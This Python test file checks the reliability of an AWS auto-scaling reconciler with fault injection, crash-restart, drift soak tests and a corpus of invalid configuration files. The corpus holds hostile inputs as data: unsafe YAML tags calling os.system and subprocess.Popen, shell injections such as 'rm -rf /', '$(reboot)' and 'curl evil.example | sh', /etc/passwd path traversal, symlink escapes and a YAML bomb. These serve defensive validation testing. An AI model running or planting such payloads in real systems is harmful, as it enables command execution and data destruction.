"""Reliability: AWS faults at the HTTP layer, crashes at every write of a rollout, a corpus of
invalid desired files through the CLI, and a soak with drift between ticks.

What each test checks is the sandbox's own state (launch template versions, refreshes, the
group and the target group), read with a clean client, never the reconciler's counters.
The long soak is ``@pytest.mark.slow`` and skipped unless ``RECONCILER_SOAK=1``, which
``scripts/soak.sh`` sets (the default ``pytest`` run does not deselect ``slow``).
"""

from __future__ import annotations

import gc
import os
import random
import re
import signal
import subprocess
import sys
from collections.abc import Callable, Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from botocore.retries.standard import ExponentialBackoff

from reconciler import desired
from reconciler.aws import Aws
from reconciler.images.resolver import ImageResolver
from reconciler.model import TAG_CHECKPOINT, ServiceSpec
from reconciler.pipeline.reconcile import Reconciler, ServiceOutcome
from reconciler.sandbox import Sandbox
from tests.faults import FaultProxy
from tests.test_e2e_core import ROOT, sandbox_copy

REGION = "us-east-1"
GROUP = "feedback-asg"
TEMPLATE = "feedback-app-template"
STEP = 300.0  # sandbox seconds between ticks: the seed's refresh takes about 13 minutes
CRASHING_APPLY = Path(__file__).resolve().parent / "crashing_apply.py"
WRITES_IN_FIRST_APPLY = 8  # tags x3, health check, version, group, policy, refresh


# ------------------------------------------------------------------------------------------------
# The sandbox's state, read with a clean client
# ------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class World:
    versions: tuple[int, ...]
    refreshes: tuple[tuple[str, str, str], ...]  # (id, status, version), oldest first
    group_version: str
    min_size: int
    max_size: int
    interval: int
    path: str


def world(sandbox: Sandbox, clean: Aws | None = None) -> World:
    """The sandbox's state, read with ``clean`` (a client the reconciler does not use)."""
    clean = clean or sandbox.aws()
    versions = clean.call("ec2", "describe_launch_template_versions", LaunchTemplateName=TEMPLATE)[
        "LaunchTemplateVersions"
    ]
    refreshes = clean.call(
        "autoscaling", "describe_instance_refreshes", AutoScalingGroupName=GROUP
    )["InstanceRefreshes"]
    group = clean.call(
        "autoscaling", "describe_auto_scaling_groups", AutoScalingGroupNames=[GROUP]
    )["AutoScalingGroups"][0]
    target = clean.call("elbv2", "describe_target_groups", Names=["feedback-tg"])["TargetGroups"][0]
    return World(
        versions=tuple(sorted(int(v["VersionNumber"]) for v in versions)),
        refreshes=tuple(
            (r["InstanceRefreshId"], r["Status"], _refresh_version(r)) for r in reversed(refreshes)
        ),
        group_version=str(group["LaunchTemplate"]["Version"]),
        min_size=int(group["MinSize"]),
        max_size=int(group["MaxSize"]),
        interval=int(target["HealthCheckIntervalSeconds"]),
        path=str(target["HealthCheckPath"]),
    )


def _refresh_version(refresh: dict[str, Any]) -> str:
    template = refresh.get("DesiredConfiguration", {}).get("LaunchTemplate", {})
    return str(template.get("Version", ""))


def tick(reconciler: Reconciler, specs: Sequence[ServiceSpec]) -> ServiceOutcome:
    (outcome,) = reconciler.compute(specs)
    reconciler.apply([outcome])
    return outcome


def converge(
    reconciler: Reconciler, specs: Sequence[ServiceSpec], sandbox: Sandbox, *, ticks: int
) -> int:
    """Tick until a tick finds the service in sync; sandbox time moves ``STEP`` between."""
    for done in range(1, ticks + 1):
        outcome = tick(reconciler, specs)
        if outcome.error is None and outcome.diff is not None and outcome.diff.in_sync:
            return done
        sandbox.clock.advance(STEP)
    raise AssertionError(f"no convergence in {ticks} ticks: {outcome.error or outcome.diff}")


def assert_one_rollout(sandbox: Sandbox) -> None:
    """Exactly one new launch template version and one rollout, which succeeded: the refresh
    held at the 50% checkpoint, cancelled by the reconciler to go past it (its tag names it),
    then the SkipMatching refresh that finished it (pipeline/diff/checkpoint.py)."""
    state = world(sandbox)
    assert state.versions == (1, 2), state
    assert [status for _, status, _ in state.refreshes] == ["Cancelled", "Successful"], state
    assert {version for _, _, version in state.refreshes} == {"2"}, state
    group = sandbox.aws().call(
        "autoscaling", "describe_auto_scaling_groups", AutoScalingGroupNames=[GROUP]
    )["AutoScalingGroups"][0]
    marker = {t["Key"]: t["Value"] for t in group["Tags"]}.get(TAG_CHECKPOINT, "")
    assert f"refresh={state.refreshes[0][0]} " in marker, marker
    assert state.group_version == "2", state


@pytest.fixture
def specs(sandbox: Sandbox, tmp_path: Path) -> tuple[ServiceSpec, ...]:
    sandbox.clock.speed = 0
    return desired.load([sandbox_copy(tmp_path)]).services


# ------------------------------------------------------------------------------------------------
# AWS faults: throttling, 500s and read timeouts between boto3 and the sandbox
# ------------------------------------------------------------------------------------------------


@pytest.fixture
def quick_retries(monkeypatch: pytest.MonkeyPatch) -> None:
    """botocore's retry backoff a tenth as long: the test is about outcomes, not sleeping."""
    original = ExponentialBackoff.delay_amount

    def shorter(self: ExponentialBackoff, context: Any) -> float:
        return float(original(self, context)) / 10

    monkeypatch.setattr(ExponentialBackoff, "delay_amount", shorter)


@pytest.mark.usefixtures("quick_retries")
def test_the_pipeline_converges_through_throttling_errors_and_timeouts(
    sandbox: Sandbox, specs: tuple[ServiceSpec, ...]
) -> None:
    lost_answers = frozenset({"CreateLaunchTemplateVersion", "StartInstanceRefresh"})
    with FaultProxy(
        sandbox.endpoint, seed=20261128, delay_seconds=1.3, delay_first=lost_answers
    ) as proxy:
        aws = Aws(region=REGION, endpoint_url=proxy.endpoint, read_timeout=1)
        reconciler = Reconciler(aws=aws, resolver=ImageResolver(aws))
        errors_seen: list[str] = []
        for _ in range(30):
            outcome = tick(reconciler, specs)  # must not raise, whatever AWS answers
            if outcome.error is not None:
                errors_seen.append(type(outcome.error).__name__)
            elif outcome.diff is not None and outcome.diff.in_sync:
                break
            sandbox.clock.advance(STEP)
        else:
            pytest.fail(f"no convergence through faults; errors: {errors_seen}")
    print(f"faults: {dict(proxy.injected)}; service errors in ticks: {errors_seen}")
    assert proxy.injected["throttle"] > 0 and proxy.injected["error"] > 0
    # Both writes took effect and their answers were lost; the retries did not duplicate them.
    assert all(proxy.injected[f"delay:{op}"] == 1 for op in lost_answers), proxy.injected
    assert_one_rollout(sandbox)


def test_the_fault_proxy_answers_in_the_shapes_botocore_parses(sandbox: Sandbox) -> None:
    with FaultProxy(sandbox.endpoint, throttle=1.0, error=0.0, delay=0.0) as proxy:
        aws = Aws(region=REGION, endpoint_url=proxy.endpoint, max_attempts=1)
        codes = {}
        for service, operation in (
            ("autoscaling", "describe_auto_scaling_groups"),
            ("elbv2", "describe_target_groups"),
            ("ec2", "describe_launch_templates"),
        ):
            with pytest.raises(Exception) as raised:
                aws.call(service, operation)
            codes[service] = str(raised.value)
    assert "Throttling" in codes["autoscaling"] and "Throttling" in codes["elbv2"]
    assert "RequestLimitExceeded" in codes["ec2"]
    assert proxy.forwarded == {}  # throttled calls never reach AWS


# ------------------------------------------------------------------------------------------------
# Crash points: SIGKILL right after the k-th write of the first apply, then restart
# ------------------------------------------------------------------------------------------------


def cli_env(endpoint: str, **extra: str) -> dict[str, str]:
    return {
        **os.environ,
        "AWS_ENDPOINT_URL": endpoint,
        "AWS_ACCESS_KEY_ID": "testing",
        "AWS_SECRET_ACCESS_KEY": "testing",
        "AWS_DEFAULT_REGION": REGION,
        **extra,
    }


def apply_cli(
    path: Path, endpoint: str, *, crash_after: int = 0
) -> subprocess.CompletedProcess[str]:
    env = cli_env(endpoint, CRASH_AFTER_WRITE=str(crash_after))
    return subprocess.run(
        [sys.executable, str(CRASHING_APPLY), "apply", "--yes", str(path)],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
        check=False,
        cwd=ROOT,
    )


def test_the_first_apply_makes_the_writes_the_crash_points_cover(
    sandbox: Sandbox, aws: Aws, specs: tuple[ServiceSpec, ...]
) -> None:
    reconciler = Reconciler(aws=aws, resolver=ImageResolver(aws))
    tick(reconciler, specs)
    assert sum(aws.writes().values()) == WRITES_IN_FIRST_APPLY, aws.writes()


@pytest.mark.parametrize("crash_after", range(1, WRITES_IN_FIRST_APPLY + 1))
def test_a_crash_after_any_write_is_repaired_by_a_restart(
    sandbox: Sandbox, tmp_path: Path, crash_after: int
) -> None:
    sandbox.clock.speed = 0
    path = sandbox_copy(tmp_path)
    crashed = apply_cli(path, sandbox.endpoint, crash_after=crash_after)
    assert crashed.returncode == -signal.SIGKILL, crashed.stderr

    # The restart: a fresh process's pipeline (no memory of the crashed one). Its first tick is
    # what `reconciler apply --yes` does; the ticks after it follow the rollout to its end.
    aws = sandbox.aws()
    reconciler = Reconciler(aws=aws, resolver=ImageResolver(aws))
    converge(reconciler, desired.load([path]).services, sandbox, ticks=8)
    assert_one_rollout(sandbox)


# ------------------------------------------------------------------------------------------------
# Invalid desired files through the CLI: exit 1, a located error, no traceback, no AWS call
# ------------------------------------------------------------------------------------------------

Builder = Callable[[Path], None]
LOCATED = re.compile(r"^(?P<file>\S+):(?P<line>\d+): error: \S", re.MULTILINE)
FIFTY_MB = 50 * 1024 * 1024


def base_text() -> str:
    text = (ROOT / "desired" / "desired.yaml").read_text()
    text = text.replace(
        "ghcr.io/johnhuh619/simple-api", "123456789012.dkr.ecr.us-east-1.amazonaws.com/simple-api"
    )
    return text.replace("tag: latest", "tag: v1.1")


def write_case(directory: Path, text: str | bytes) -> None:
    directory.mkdir(parents=True, exist_ok=True)
    template = (ROOT / "desired" / "feedback-userdata.sh").read_bytes()
    (directory / "feedback-userdata.sh").write_bytes(template)
    data = text.encode() if isinstance(text, str) else text
    (directory / "desired.yaml").write_bytes(data)


def mutate(find: str, replace: str) -> Builder:
    def build(directory: Path) -> None:
        text = base_text()
        assert find in text, find
        write_case(directory, text.replace(find, replace, 1))

    return build


def whole(text: str | bytes) -> Builder:
    return lambda directory: write_case(directory, text)


def billion_laughs(directory: Path) -> None:
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f"a{i}: &a{i} [{','.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 10)]
    write_case(directory, "\n".join(lines) + "\nbomb: *a9\n" + base_text())


def deep(opening: str, closing: str, depth: int = 5000) -> Builder:
    return whole(base_text() + "extra: " + opening * depth + closing * depth + "\n")


def many_values(directory: Path) -> None:
    items = ", ".join(str(i) for i in range(20_000))
    write_case(directory, base_text().replace("[50, 100]", f"[{items}]"))


def fifty_megabytes(directory: Path) -> None:
    write_case(directory, base_text())
    with (directory / "desired.yaml").open("r+b") as handle:  # sparse: no 50 MB written
        handle.seek(FIFTY_MB)
        handle.write(b"\n# end\n")


def broken_template(directory: Path) -> None:
    write_case(directory, base_text())
    (directory / "feedback-userdata.sh").write_bytes(b"#!/bin/bash\necho \xff\xfe\xc3(\n")


def unknown_placeholder(directory: Path) -> None:
    write_case(directory, base_text())
    script = "#!/bin/bash\ndocker run ${IMAGE} $(curl ${EVIL})\n"
    (directory / "feedback-userdata.sh").write_text(script)


def symlink_out(directory: Path) -> None:
    outside = directory.parent / f"{directory.name}-outside"
    write_case(outside, base_text())
    directory.mkdir(parents=True)
    (directory / "feedback-userdata.sh").write_bytes(b"#!/bin/bash\n")
    (directory / "desired.yaml").symlink_to(outside / "desired.yaml")


def template_symlink_out(directory: Path) -> None:
    write_case(directory, base_text())
    outside = directory.parent / f"{directory.name}-secret.sh"
    outside.write_text("#!/bin/bash\ndocker run ${IMAGE}\n")
    (directory / "feedback-userdata.sh").unlink()
    (directory / "feedback-userdata.sh").symlink_to(outside)


def symlink_loop(directory: Path) -> None:
    directory.mkdir(parents=True)
    (directory / "desired.yaml").symlink_to(directory / "desired.yaml")


def two_with_one_name(directory: Path) -> None:
    write_case(directory, base_text() + "---\n" + base_text())


CORPUS: dict[str, Builder] = {
    # Schema and rule violations
    "api-version": mutate("apiVersion: reconciler/v1", "apiVersion: reconciler/v2"),
    "kind": mutate("kind: Service", "kind: Deployment"),
    "name-chars": mutate("name: feedback", 'name: "Feedback Service!"'),
    "region": mutate("region: us-east-1", "region: mars-1"),
    "min-negative": mutate("minSize: 2", "minSize: -1"),
    "min-string": mutate("minSize: 2", "minSize: two"),
    "max-below-min": mutate("maxSize: 4", "maxSize: 1"),
    "capacity-above-max": mutate("desiredCapacity: 2", "desiredCapacity: 9"),
    "health-check-type": mutate("healthCheckType: ELB", "healthCheckType: HTTP"),
    "grace-negative": mutate("healthCheckGracePeriod: 300", "healthCheckGracePeriod: -5"),
    "interval-too-short": mutate("intervalSeconds: 30", "intervalSeconds: 3"),
    "timeout-above-interval": mutate("timeoutSeconds: 5", "timeoutSeconds: 60"),
    "threshold-one": mutate("healthyThreshold: 2", "healthyThreshold: 1"),
    "matcher-words": mutate('matcher: "200"', 'matcher: "abc"'),
    "port-range": mutate('port: "8080"', 'port: "99999"'),
    "path-relative": mutate("path: /actuator/health", "path: actuator/health"),
    "min-healthy-150": mutate("minHealthyPercentage: 50", "minHealthyPercentage: 150"),
    "max-healthy-300": mutate("maxHealthyPercentage: 100", "maxHealthyPercentage: 300"),
    "checkpoints-descending": mutate("[50, 100]", "[100, 50]"),
    "checkpoints-150": mutate("[50, 100]", "[50, 150]"),
    "warmup-negative": mutate("instanceWarmup: 300", "instanceWarmup: -1"),
    "cpu-zero": mutate("targetCpuUtilization: 70", "targetCpuUtilization: 0"),
    "rollback-string": mutate("autoRollback: true", 'autoRollback: "yes"'),
    "unknown-spec-field": mutate("  region: us-east-1", "  region: us-east-1\n  colour: blue"),
    "unknown-top-field": whole(base_text() + "status: {}\n"),
    "digest-malformed": mutate("tag: v1.1", "digest: sha256:xyz"),
    "repository-uppercase": mutate("amazonaws.com/simple-api", "amazonaws.com/Simple_API!!"),
    "template-missing": mutate("userData: feedback-userdata.sh", "userData: nope.sh"),
    "template-absolute": mutate("userData: feedback-userdata.sh", "userData: /etc/passwd"),
    "template-escapes": mutate("userData: feedback-userdata.sh", "userData: ../../etc/passwd"),
    "no-metadata": mutate("metadata:\n  name: feedback\n", ""),
    "spec-is-a-list": whole(
        "apiVersion: reconciler/v1\nkind: Service\nmetadata: {name: x}\nspec: [1, 2]\n"
    ),
    "document-is-a-string": whole("just a string\n"),
    "empty-file": whole(""),
    "duplicate-service": two_with_one_name,
    "yaml-tab-indent": whole("apiVersion: reconciler/v1\nspec:\n\tregion: us-east-1\n"),
    "yaml-unclosed": mutate("[50, 100]", "[50, 100"),
    # Bombs and sizes
    "billion-laughs": billion_laughs,
    "deep-sequences": deep("[", "]"),
    "deep-mappings": deep("{a: ", "}"),
    "twenty-thousand-values": many_values,
    "fifty-megabytes": fifty_megabytes,
    # Duplicate keys
    "duplicate-top-key": whole(
        base_text().replace("kind: Service", "kind: Service\nkind: Service")
    ),
    "duplicate-nested-key": mutate("minSize: 2", "minSize: 2\n    minSize: 3"),
    # Tags that would construct Python objects, and foreign tags
    "python-apply": mutate(
        "tag: v1.1", 'tag: !!python/object/apply:os.system ["touch /tmp/pwned"]'
    ),
    "python-name": mutate("tag: v1.1", "tag: !!python/name:os.system"),
    "python-new": mutate("tag: v1.1", "tag: !!python/object/new:subprocess.Popen [[id]]"),
    "python-module": mutate("tag: v1.1", "tag: !!python/module:os"),
    "local-tag": mutate("tag: v1.1", "tag: !Ref latest"),
    "binary-tag": mutate("tag: v1.1", "tag: !!binary aGVsbG8="),
    # Shell injection in the tag, the path, the matcher and the names
    "tag-semicolon": mutate("tag: v1.1", "tag: 'v1;rm -rf /'"),
    "tag-substitution": mutate("tag: v1.1", 'tag: "$(reboot)"'),
    "tag-backticks": mutate("tag: v1.1", 'tag: "`id`"'),
    "path-pipe": mutate("path: /actuator/health", 'path: "/health; curl evil.example | sh"'),
    "path-newline": mutate("path: /actuator/health", 'path: "/health\\nX-Injected: 1"'),
    "tag-newline": mutate("tag: v1.1", 'tag: "v1.1\\nrm -rf /"'),
    "matcher-substitution": mutate('matcher: "200"', 'matcher: "$(id)"'),
    "template-placeholder": unknown_placeholder,
    "matcher-semicolon": mutate('matcher: "200"', 'matcher: "200;ls"'),
    "repository-semicolon": mutate("amazonaws.com/simple-api", "amazonaws.com/simple-api;rm"),
    "name-substitution": mutate("name: feedback", 'name: "feedback$(id)"'),
    "template-name-injection": mutate("userData: feedback-userdata.sh", 'userData: "x.sh; id"'),
    # Encodings
    "broken-utf8": whole(base_text().encode().replace(b"tag: v1.1", b"tag: v1.\xff\xfe")),
    "nul-byte": whole(base_text().encode().replace(b"tag: v1.1", b"tag: v1\x00.1")),
    "broken-utf8-template": broken_template,
    # Symlinks
    "symlink-outside": symlink_out,
    "template-symlink-outside": template_symlink_out,
    "symlink-loop": symlink_loop,
}


@dataclass(frozen=True)
class CliRun:
    code: int
    stdout: str
    stderr: str


def run_reconciler(command: str, directory: Path, endpoint: str) -> CliRun:
    done = subprocess.run(
        [sys.executable, "-m", "reconciler", command, str(directory)],
        capture_output=True,
        text=True,
        errors="replace",
        env=cli_env(endpoint),
        timeout=120,
        check=False,
        cwd=ROOT,
    )
    return CliRun(done.returncode, done.stdout, done.stderr)


@dataclass
class CorpusResults:
    runs: dict[tuple[str, str], CliRun]
    directories: dict[str, Path]
    forwarded: dict[str, int]
    before: World
    after: World


@pytest.fixture(scope="module")
def corpus(
    sandbox_server: Sandbox, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[CorpusResults]:
    """Every case through ``validate`` and ``diff``, in parallel, ``diff`` pointed at the
    sandbox through a counting proxy (no faults): any AWS call at all would show."""
    sandbox_server.reseed()
    root = tmp_path_factory.mktemp("invalid")
    directories = {}
    for name, build in CORPUS.items():
        build(root / name)
        directories[name] = root / name
    before = world(sandbox_server)
    with FaultProxy(sandbox_server.endpoint, throttle=0, error=0, delay=0) as counter:
        jobs = [(name, command) for name in CORPUS for command in ("validate", "diff")]
        with ThreadPoolExecutor(max_workers=4) as pool:
            done = pool.map(
                lambda job: run_reconciler(job[1], directories[job[0]], counter.endpoint), jobs
            )
            runs = dict(zip(jobs, done, strict=True))
        forwarded = dict(counter.forwarded)
    yield CorpusResults(runs, directories, forwarded, before, world(sandbox_server))


def test_the_corpus_is_big_enough() -> None:
    assert len(CORPUS) >= 50


@pytest.mark.parametrize("name", sorted(CORPUS))
@pytest.mark.parametrize("command", ["validate", "diff"])
def test_an_invalid_file_is_exit_1_with_a_located_error(
    corpus: CorpusResults, name: str, command: str
) -> None:
    run = corpus.runs[(name, command)]
    output = run.stdout + run.stderr
    assert run.code == 1, output
    assert "Traceback" not in output, output
    located = [
        m for m in LOCATED.finditer(run.stderr) if str(corpus.directories[name]) in m["file"]
    ]
    assert located, run.stderr


def test_no_invalid_file_reached_aws(corpus: CorpusResults) -> None:
    assert corpus.forwarded == {}
    assert corpus.after == corpus.before


# ------------------------------------------------------------------------------------------------
# Soak: random drift between ticks, each corrected within one tick, memory flat
# ------------------------------------------------------------------------------------------------

Drift = Callable[[Aws, random.Random], None]
ACTIVE = frozenset({"Pending", "InProgress", "Baking"})


def drift_interval(aws: Aws, rng: random.Random) -> None:
    aws.call(
        "elbv2",
        "modify_target_group",
        TargetGroupArn=target_arn(aws),
        HealthCheckIntervalSeconds=rng.choice([10, 15, 60]),
    )


def drift_path(aws: Aws, rng: random.Random) -> None:
    aws.call(
        "elbv2",
        "modify_target_group",
        TargetGroupArn=target_arn(aws),
        HealthCheckPath=rng.choice(["/", "/health", "/ping"]),
    )


def drift_max(aws: Aws, rng: random.Random) -> None:
    aws.call(
        "autoscaling",
        "update_auto_scaling_group",
        AutoScalingGroupName=GROUP,
        MaxSize=rng.choice([5, 6, 8]),
    )


def drift_min(aws: Aws, rng: random.Random) -> None:
    aws.call("autoscaling", "update_auto_scaling_group", AutoScalingGroupName=GROUP, MinSize=1)


def drift_version(aws: Aws, rng: random.Random) -> None:
    template = aws.call("ec2", "describe_launch_templates", LaunchTemplateNames=[TEMPLATE])
    template_id = template["LaunchTemplates"][0]["LaunchTemplateId"]
    aws.call(
        "autoscaling",
        "update_auto_scaling_group",
        AutoScalingGroupName=GROUP,
        LaunchTemplate={"LaunchTemplateId": template_id, "Version": "1"},
    )


def target_arn(aws: Aws) -> str:
    found = aws.call("elbv2", "describe_target_groups", Names=["feedback-tg"])["TargetGroups"]
    return str(found[0]["TargetGroupArn"])


DRIFTS: dict[str, Drift] = {
    "interval": drift_interval,
    "path": drift_path,
    "maxSize": drift_max,
    "minSize": drift_min,
    "version": drift_version,
}


def rss_bytes() -> int:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) * 1024
    raise AssertionError("no VmRSS in /proc/self/status")


@dataclass
class SoakResult:
    drifts: dict[str, int]
    rss_early: int
    rss_late: int
    refreshes: int


def soak(
    sandbox: Sandbox, specs: Sequence[ServiceSpec], *, ticks: int, early: int, seed: int
) -> SoakResult:
    aws = sandbox.aws()
    reconciler = Reconciler(aws=aws, resolver=ImageResolver(aws))
    converge(reconciler, specs, sandbox, ticks=8)
    drifter, rng = sandbox.aws(), random.Random(seed)
    wanted = world(sandbox, drifter)
    counts = dict.fromkeys(DRIFTS, 0)
    rss_early = 0
    for number in range(1, ticks + 1):
        name = rng.choice(sorted(DRIFTS))
        DRIFTS[name](drifter, rng)
        counts[name] += 1
        outcome = tick(reconciler, specs)
        assert outcome.error is None, (number, name, outcome.error)
        now = world(sandbox, drifter)
        assert _settings(now) == _settings(wanted), (number, name, now, wanted)
        assert _on_the_way_back(now, wanted), (number, name, now, wanted)
        assert now.versions == wanted.versions, (number, name, now)  # no version made
        sandbox.clock.advance(30)
        if number == early:
            gc.collect()
            rss_early = rss_bytes()
    gc.collect()
    return SoakResult(counts, rss_early, rss_bytes(), len(world(sandbox, drifter).refreshes))


def _settings(state: World) -> tuple[Any, ...]:
    return (state.min_size, state.max_size, state.interval, state.path)


def _on_the_way_back(state: World, wanted: World) -> bool:
    """The group is on the wanted version, or a refresh to it is under way.

    The reconciler answers a group pointed at another version with an instance refresh to
    the desired one (not a bare UpdateAutoScalingGroup), and AWS points the group back when
    the refresh succeeds.
    """
    if state.group_version == wanted.group_version:
        return True
    if not state.refreshes:
        return False
    _, status, version = state.refreshes[-1]
    return status in ACTIVE and version == wanted.group_version


def test_soak_short_every_drift_is_corrected_within_one_tick(
    sandbox: Sandbox, specs: tuple[ServiceSpec, ...]
) -> None:
    result = soak(sandbox, specs, ticks=60, early=20, seed=60)
    assert all(result.drifts.values()), result.drifts  # every kind of drift happened
    assert result.rss_late - result.rss_early < 16 * 1024 * 1024, result


@pytest.mark.slow
@pytest.mark.skipif(
    os.environ.get("RECONCILER_SOAK") != "1", reason="the long soak: run scripts/soak.sh"
)
def test_soak_1000_ticks_every_drift_corrected_and_no_memory_growth(
    sandbox: Sandbox, specs: tuple[ServiceSpec, ...]
) -> None:
    result = soak(sandbox, specs, ticks=1000, early=100, seed=1000)
    print(
        f"soak: drifts {result.drifts}, refreshes {result.refreshes}, "
        f"RSS tick 100 {result.rss_early / 2**20:.1f} MiB, "
        f"tick 1000 {result.rss_late / 2**20:.1f} MiB"
    )
    assert result.rss_late - result.rss_early < 16 * 1024 * 1024, result
